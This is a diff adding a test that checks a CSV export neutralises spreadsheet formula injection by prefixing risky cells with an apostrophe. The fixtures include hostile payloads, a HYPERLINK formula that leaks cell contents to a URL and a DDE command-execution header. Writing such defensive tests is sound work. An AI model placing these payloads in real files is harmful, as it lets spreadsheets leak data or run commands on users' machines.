@@ -6,7 +6,7 @@ import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { sql, type SQL } from 'drizzle-orm';
 import { createTestContext, testDatabaseKind } from '../../test/helper.ts';
-import { csvCell, csvSelection, sendCsv, type CsvColumns, type CsvExportOptions } from './csv-export.ts';
+import { csvCell, csvSelection, neutraliseCsvCell, sendCsv, type CsvColumns, type CsvExportOptions } from './csv-export.ts';
 import type { Transaction } from './client.ts';
 import { users } from './schema.ts';
 
@@ -84,6 +84,41 @@ describe('the streamed CSV export', () => {
     const plain = records.filter(([, value]) => !/[;"\r\n]/.test(value!));
     expect(body).toContain(stringify(plain.slice(0, 3), { delimiter: ';', record_delimiter: '\r\n' }));
     expect(body).toContain('\r\n3;"a;b"\r\n4;"say ""hi"""\r\n5;"line\nbreak"\r\n6;"cr\rhere"\r\n7;"crlf\r\nhere"\r\n8;""""\r\n9;";"\r\n');
+  });
+
+  it("neutralises formulas: a cell starting with = + - @ tab or CR gets a leading ', a plain signed number does not (issue 30, M5)", async () => {
+    const cases: [string, string][] = [
+      ['=HYPERLINK("http://x?"&A1,"Click")', '\'=HYPERLINK("http://x?"&A1,"Click")'],
+      ['+SUM(A1:A2)', "'+SUM(A1:A2)"],
+      ['-2+3', "'-2+3"],
+      ['@cmd', "'@cmd"],
+      ['\tindented', "'\tindented"],
+      ['\rreturn', "'\rreturn"],
+      ['-30', '-30'],
+      ['+12,50', '+12,50'],
+      ['1234,56', '1234,56'],
+      ['a=b', 'a=b'],
+    ];
+    for (const [given, expected] of cases) expect(neutraliseCsvCell(given)).toBe(expected);
+    const hostileHeader = '=cmd|\' /C calc\'!A0';
+    const app = Fastify();
+    app.get('/export', (_request, reply) =>
+      sendCsv(reply, {
+        db: ctx.app.db,
+        fileName: 'formulas.csv',
+        language: 'it',
+        columns: { n: { header: { it: hostileHeader, en: hostileHeader }, value: sql`n` }, value: { header: { it: 'Valore', en: 'Value' }, value: sql`value` } },
+        query: () =>
+          sql`select n::text as c0, v.value as c1
+              from jsonb_array_elements_text(${JSON.stringify(cases.map(([given]) => given))}::jsonb) with ordinality as v(value, n) order by n`,
+      }),
+    );
+    const response = await app.inject({ method: 'GET', url: '/export' });
+    await app.close();
+    const records = parse(response.rawPayload.toString('utf8'), { delimiter: ';', bom: true, record_delimiter: '\r\n' }) as string[][];
+    expect(records[0]).toEqual([`'${hostileHeader}`, 'Valore']);
+    // PostgreSQL writes the cells (cursor on PGlite, COPY on PostgreSQL) exactly as neutraliseCsvCell does.
+    expect(records.slice(1).map((record) => record[1])).toEqual(cases.map(([, expected]) => expected));
   });
 
   it('answers a JSON error, not a cut file, when the query fails', async () => {
